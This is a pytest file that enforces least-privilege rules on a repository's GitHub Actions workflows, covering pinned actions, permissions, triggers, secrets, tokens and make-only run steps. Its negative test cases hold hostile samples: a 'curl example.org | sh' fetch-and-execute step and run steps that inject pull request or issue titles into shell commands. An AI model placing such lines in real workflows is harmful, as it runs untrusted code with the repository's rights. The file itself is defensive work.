"""Checks that the workflows have least privilege, and that each rule finds a workflow that breaks it."""

import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

PROJECT = Path(__file__).resolve().parents[1]
WORKFLOWS = {path.name: path.read_text("utf-8") for path in sorted(PROJECT.glob(".github/workflows/*.y*ml"))}
MAY_WRITE = {
    ("verify.yml", "verify"): {"id-token"},
    ("deploy.yml", "plan"): {"id-token", "pull-requests"},
    ("deploy.yml", "deploy"): {"id-token"},
    ("pages.yml", "publish"): {"id-token", "pages"},
}
PINNED = re.compile(r"uses: [\w-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
OWN = re.compile(r"uses: \./\.github/workflows/[\w-]+\.yml")
COMMAND = re.compile(r"make ([a-z-]+)(?: STAGE=[a-z0-9]+)?(?: PACKAGE=build/package)?")
# The versions in use: a new version of an action must not change a test.
CHECKOUT, SETUP_PYTHON = (
    re.findall(rf"actions/{action}(@([0-9a-f]{{7}})[0-9a-f]+ # (v[\d.]+))", WORKFLOWS["check.yml"])[0]
    for action in ("checkout", "setup-python")
)
TARGETS = frozenset(re.findall(r"^([a-z-]+):", (PROJECT / "Makefile").read_text("utf-8"), re.MULTILINE))


def faults(name: str, text: str, targets: frozenset[str] = TARGETS) -> list[str]:
    """Returns the faults of a workflow."""
    workflow = yaml.safe_load(text)
    found = [*_loose_actions(text)]
    if workflow.get("permissions") != {}:
        found.append("permissions at the top are not empty")
    if {"pull_request_target", "workflow_run"} & set(_triggers(workflow)):
        found.append("unreviewed code would run with the rights of this repository")
    if re.search(r"\bsecrets\b", text):
        found.append("uses a secret")
    for job_name, job in workflow["jobs"].items():
        found += _faults_of_job((name, job_name), job, _triggers(workflow))
        for step in job.get("steps", []):
            found += _faults_of_step(step, targets)
    return found


def _triggers(workflow: Mapping[Any, Any]) -> list[str]:
    triggers = workflow[True]  # YAML 1.1 reads the word `on` as true
    return [triggers] if isinstance(triggers, str) else list(triggers)


def _loose_actions(text: str) -> Iterator[str]:
    for line in text.splitlines():
        used = line.strip().removeprefix("- ")
        if used.startswith("uses:") and not PINNED.fullmatch(used) and not OWN.fullmatch(used):
            yield f"not pinned by commit and version: {used}"


def _may_run_on_pull_requests(job: Mapping[str, Any]) -> bool:
    return not str(job.get("if", "")).startswith("github.event_name == 'push' &&")


def _faults_of_job(job_id: tuple[str, str], job: Mapping[str, Any], triggers: list[str]) -> Iterator[str]:
    permissions = job.get("permissions")
    if not isinstance(permissions, dict):
        yield f"{job_id} has no permissions block"
        return
    written = {permission for permission, access in permissions.items() if access != "read"}
    if written - MAY_WRITE.get(job_id, set()):
        yield f"{job_id} may write {sorted(written)}"
    if (
        "pull_request" in triggers
        and _may_run_on_pull_requests(job)
        and ({"id-token"} & written or "environment" in job)
    ):
        yield f"{job_id} gives an identity to a pull request"
    if "uses" not in job and "timeout-minutes" not in job:
        yield f"{job_id} has no timeout"


def _faults_of_step(step: Mapping[str, Any], targets: frozenset[str]) -> Iterator[str]:
    if "run" in step:
        # Only a make target. An expression could turn foreign text into a command.
        command = COMMAND.fullmatch(step["run"])
        if command is None:
            yield f"does not run a make target: {step['run']}"
        elif command[1] not in targets:
            yield f"runs an unknown make target: {command[1]}"
    if step.get("uses", "").startswith("actions/checkout@") and step.get("with", {}).get("persist-credentials", True):
        yield "leaves its token in the checkout"


def test_the_repository_contains_exactly_the_expected_workflows() -> None:
    assert set(WORKFLOWS) == {"check.yml", "deploy.yml", "pages.yml", "scan.yml", "verify.yml"}


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_has_no_fault(name: str) -> None:
    assert faults(name, WORKFLOWS[name]) == []


@pytest.mark.parametrize(
    ("name", "good", "bad", "expected"),
    [
        ("check.yml", CHECKOUT[0], f"@{CHECKOUT[2]}", "not pinned"),
        ("check.yml", CHECKOUT[0], f"@{CHECKOUT[1]} # {CHECKOUT[2]}", "not pinned"),
        ("check.yml", f" # {CHECKOUT[2]}", "", "not pinned"),
        ("check.yml", f" # {SETUP_PYTHON[2]}", " # v6", "not pinned"),
        ("check.yml", "permissions: {}\n", "", "permissions at the top"),
        ("check.yml", "permissions: {}\n", "permissions: read-all\n", "permissions at the top"),
        ("check.yml", "    permissions:\n      contents: read\n", "", "no permissions block"),
        (
            "check.yml",
            "    permissions:\n      contents: read\n",
            "    permissions: write-all\n",
            "no permissions block",
        ),
        ("check.yml", "contents: read", "contents: write", "may write"),
        ("check.yml", "contents: read", "contents: read\n      id-token: write", "may write"),
        ("deploy.yml", "id-token: write", "id-token: write\n      packages: write", "may write"),
        (
            "deploy.yml",
            "timeout-minutes: 15\n    permissions:\n      contents: read",
            "timeout-minutes: 15\n    permissions:\n      contents: read\n      id-token: write",
            "may write",
        ),
        ("deploy.yml", "github.event_name == 'push' && github.ref", "github.ref", "an identity to a pull request"),
        (
            "deploy.yml",
            "github.event_name == 'push' && startsWith(github.ref, 'refs/tags/v') && vars.",
            "vars.",
            "an identity to a pull request",
        ),
        ("deploy.yml", "pull-requests: write", "issues: write", "may write"),
        (
            "deploy.yml",
            "timeout-minutes: 15\n",
            "timeout-minutes: 15\n    environment: plan\n",
            "an identity to a pull",
        ),
        ("verify.yml", "workflow_dispatch:", "pull_request:", "an identity to a pull request"),
        ("pages.yml", "contents: read", "pages: write", "may write"),
        ("pages.yml", "pages: write", "contents: write", "may write"),
        ("pages.yml", "workflow_dispatch:", "pull_request:", "an identity to a pull request"),
        ("check.yml", "    timeout-minutes: 30\n", "", "no timeout"),
        ("check.yml", "pull_request:", "pull_request_target:", "unreviewed code"),
        ("scan.yml", "workflow_dispatch:", "workflow_run: {workflows: [check]}", "unreviewed code"),
        ("check.yml", "run: make check", "run: make chekc", "unknown make target: chekc"),
        ("check.yml", "run: make check", "run: echo ${{ github.event.pull_request.title }}", "not run a make target"),
        ("check.yml", "run: make check", "run: make check ${{ github.event.issue.title }}", "not run a make target"),
        (
            "check.yml",
            "run: make check",
            "run: |\n          make check\n          curl example.org | sh",
            "not run a make target",
        ),
        ("check.yml", "persist-credentials: false", "fetch-depth: 0", "token in the checkout"),
        ("check.yml", "persist-credentials: false", "persist-credentials: true", "token in the checkout"),
        ("deploy.yml", "${{ vars.DEPLOY_ROLE_ARN }}", "${{ secrets.DEPLOY_ROLE_ARN }}", "uses a secret"),
    ],
)
def test_a_workflow_that_breaks_a_rule_is_reported(name: str, good: str, bad: str, expected: str) -> None:
    assert good in WORKFLOWS[name]
    found = faults(name, WORKFLOWS[name].replace(good, bad), targets=TARGETS | {"check", "deploy", "scan"})
    assert any(expected in fault for fault in found), found


def test_all_uses_of_an_action_have_the_same_commit() -> None:
    used = set(re.findall(r"uses: (\S+)@([0-9a-f]{40}) # (\S+)", "\n".join(WORKFLOWS.values())))
    assert len({action for action, _, _ in used}) == len(used)


def test_every_supported_python_is_tested_and_one_of_them_packages() -> None:
    jobs = {name: yaml.safe_load(text)["jobs"] for name, text in WORKFLOWS.items()}
    checked = jobs["check.yml"]["check"]["strategy"]["matrix"]["python"]
    readme = (PROJECT / "README.md").read_text("utf-8")
    assert checked == re.findall(r"\d\.\d\d", readme[readme.index("needs Python") :].split(" and `make`")[0])
    packaging = set(re.findall(r'python-version: "(.+)"', WORKFLOWS["deploy.yml"] + WORKFLOWS["verify.yml"]))
    assert len(packaging) == 1, "all jobs must package with the same version"
    assert packaging <= set(checked)


def test_the_runbook_has_the_deprecation_date_of_each_checked_python() -> None:
    checked = yaml.safe_load(WORKFLOWS["check.yml"])["jobs"]["check"]["strategy"]["matrix"]["python"]
    runbook = (PROJECT / "docs/runbook/upgrade-python.md").read_text("utf-8")
    dates = dict(re.findall(r"^\| Python (\d\.\d\d) \| (\d{4}-\d\d-\d\d) \|$", runbook, re.MULTILINE))
    assert list(dates) == checked
    packaging = re.findall(r'python-version: "(.+)"', WORKFLOWS["deploy.yml"])
    assert {dates[version] for version in packaging} == {max(dates.values())}, (
        "another checked runtime is supported longer"
    )


def test_only_a_checked_and_approved_tag_is_deployed() -> None:
    workflow = yaml.safe_load(WORKFLOWS["deploy.yml"])
    deploy = workflow["jobs"]["deploy"]
    assert deploy["if"].startswith("github.event_name == 'push' && startsWith(github.ref, 'refs/tags/v') && ")
    assert deploy["needs"] == "check"
    assert deploy["environment"] == "prod"
    assert deploy["concurrency"] == {"group": "deploy-prod", "cancel-in-progress": False}


def test_a_tag_deploys_the_package_of_the_plan_of_its_commit() -> None:
    jobs = yaml.safe_load(WORKFLOWS["deploy.yml"])["jobs"]
    commands = {name: [step["run"] for step in job.get("steps", []) if "run" in step] for name, job in jobs.items()}
    assert commands["plan"] == ["make package", "make plan STAGE=prod PACKAGE=build/package", "make comment"]
    assert commands["deploy"] == ["make planned-package", "make deploy STAGE=prod PACKAGE=build/package"]
    (uploaded,) = (step["with"] for step in jobs["plan"]["steps"] if "upload-artifact" in step.get("uses", ""))
    assert (uploaded["name"], uploaded["path"]) == ("package", "build/package/")


def test_only_the_main_branch_is_planned() -> None:
    workflow = yaml.safe_load(WORKFLOWS["deploy.yml"])
    assert workflow[True]["push"] == {"branches": ["main"], "tags": ["v*"]}
    plan = workflow["jobs"]["plan"]
    assert plan["if"].startswith("github.event_name == 'push' && github.ref == 'refs/heads/main' && ")
    assert plan["environment"] == "plan"


def test_only_reviewed_code_gets_the_role_that_reads_a_secret() -> None:
    workflow = yaml.safe_load(WORKFLOWS["verify.yml"])
    verify = workflow["jobs"]["verify"]
    assert set(workflow[True]) == {"schedule", "workflow_dispatch"}
    assert verify["environment"] == "plan", "without the environment, a branch could use the role"
    assert "github.ref == 'refs/heads/main' || startsWith(github.ref, 'refs/tags/v')" in verify["if"]


def test_only_the_job_deploy_uses_the_role_that_deploys() -> None:
    jobs = [job for text in WORKFLOWS.values() for job in yaml.safe_load(text)["jobs"].items()]
    roles = {name: re.findall(r"vars\.(\w+_ROLE_ARN) }}", str(job)) for name, job in jobs}
    assert {name: found for name, found in roles.items() if found} == {
        "verify": ["PLAN_ROLE_ARN"],
        "plan": ["PLAN_ROLE_ARN"],
        "deploy": ["DEPLOY_ROLE_ARN"],
    }


def test_only_the_main_branch_publishes_the_site() -> None:
    workflow = yaml.safe_load(WORKFLOWS["pages.yml"])
    assert workflow[True] == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert all("github.ref == 'refs/heads/main'" in workflow["jobs"][name]["if"] for name in ("build", "publish"))
    assert workflow["jobs"]["publish"]["steps"] == [{"uses": workflow["jobs"]["publish"]["steps"][0]["uses"]}], (
        "the job that may publish runs nothing of the repository"
    )
